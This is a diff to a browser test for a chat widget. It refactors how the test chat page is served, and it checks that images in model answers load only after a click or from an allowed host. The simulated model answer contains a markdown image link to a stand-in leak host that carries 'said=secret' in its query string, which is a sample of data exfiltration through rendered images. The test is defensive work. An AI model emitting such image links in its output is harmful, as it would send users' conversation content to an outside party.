@@ -1,5 +1,6 @@
 import { afterAll, expect, test } from "vitest";
 import { serveBots } from "../serve-bots.ts";
+import { serveChatPage } from "./chat-page.ts";
 import { startModelProvider } from "./model-provider.ts";
 
 /* A model's image address can carry what a visitor wrote to another host. */
@@ -22,16 +23,7 @@ test("images load after a click, or at once from a host that the owner allows", 
     referrers.push(route.request().headers()["referer"]);
     return route.fulfill({ contentType: "image/gif", body: PIXEL });
   });
-  await page.route(`${server.url}/chat`, (route) =>
-    route.fulfill({
-      contentType: "text/html",
-      body: `<!doctype html><html lang="en"><title>Chat</title><script type="module">
-        import Banter from "${server.url}/banter/banter.js";
-        Banter.initStandard({ typebot: "shows-pictures" });
-      </script><banter-standard style="display: block; height: 600px"></banter-standard>`,
-    }),
-  );
-  await page.goto(`${server.url}/chat`);
+  await page.goto(await serveChatPage(page, server.url, '{ typebot: "shows-pictures" }'));
   provider.plan.push((answer) => {
     answer.write(
       "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
